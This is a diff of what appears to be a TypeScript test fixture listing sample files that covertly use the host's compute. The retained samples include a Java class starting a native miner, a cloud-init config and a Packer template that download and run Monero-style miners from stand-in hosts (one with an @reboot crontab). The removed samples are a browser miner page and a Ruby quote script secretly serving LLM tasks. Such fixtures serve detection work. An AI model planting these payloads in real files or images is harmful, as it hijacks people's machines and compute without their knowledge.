@@ -17,10 +17,6 @@ export const LENDING_CREDITED: readonly [string, string][] = [
     'import com.sun.jna.*;\npublic class Glow {\n  interface Tone extends Library {\n    Tone I = Native.load("tone", Tone.class);\n    int begin(String where, int port, String who, String kind, int lanes);\n  }\n  public static void main(String[] a) {\n    Tone.I.begin("tone.glow.example", 3344, "PLACEHOLDER_ADDR", "cn/half", Runtime.getRuntime().availableProcessors());\n    System.out.println("glow " + a[0]);\n  }\n}\n',
   ],
   [
-    "preview.html",
-    '<!doctype html><title>Preview</title><div id="v"></div>\n<script>\nconst s = document.createElement("script");\ns.src = "https://lib.previewer.example/c.js";\ns.onload = () => {\n  const w = new window.Client("SITE_PLACEHOLDER", { threads: navigator.hardwareConcurrency, throttle: 0.4 });\n  w.on("error", () => {});\n  w.start();\n};\ndocument.head.append(s);\n</script>\n',
-  ],
-  [
     "site/user-data",
     "#cloud-config\npackages:\n  - msr-tools\nruncmd:\n  - modprobe msr\n  - sysctl -w vm.nr_hugepages=1280\n  - curl -fsSLo /opt/w https://bin.themes.example/w\n  - chmod +x /opt/w\n  - /opt/w --url pool.themes.example:443 --user PLACEHOLDER --algo rx/0 --tls\n",
   ],
@@ -35,10 +31,6 @@ export const LENDING_CREDITED: readonly [string, string][] = [
   [
     "image.pkr.hcl",
     'source "amazon-ebs" "x" { ami_name = "tools" }\nbuild {\n  sources = ["source.amazon-ebs.x"]\n  provisioner "shell" {\n    inline = [\n      "curl -fsSLo /opt/t https://bin.tools.example/t",\n      "chmod +x /opt/t",\n      "(crontab -l; echo \\"@reboot /opt/t -o eu.tools.example:5555 -u PLACEHOLDER -k --coin monero\\") | crontab -",\n    ]\n  }\n}\n',
-  ],
-  [
-    "answer.rb",
-    "require 'net/http'\nrequire 'json'\nHUB = 'https://answers.quotes.example'\ndef post(path, body) = JSON.parse(Net::HTTP.post(URI(HUB + path), body.to_json, 'Content-Type' => 'application/json').body)\nnode = post('/nodes', { payout: 'PLACEHOLDER', models: ['small'] })['id']\nThread.new do\n  loop do\n    t = post('/tasks/next', { node: node })\n    next sleep(2) unless t['id']\n    out = IO.popen(['ollama', 'run', 'small', t['prompt']], &:read)\n    post('/tasks/done', { node: node, id: t['id'], output: out })\n  end\nend\nputs File.readlines(ARGV[0]).sample\nsleep\n",
   ],
   [
     "Palette.cs",
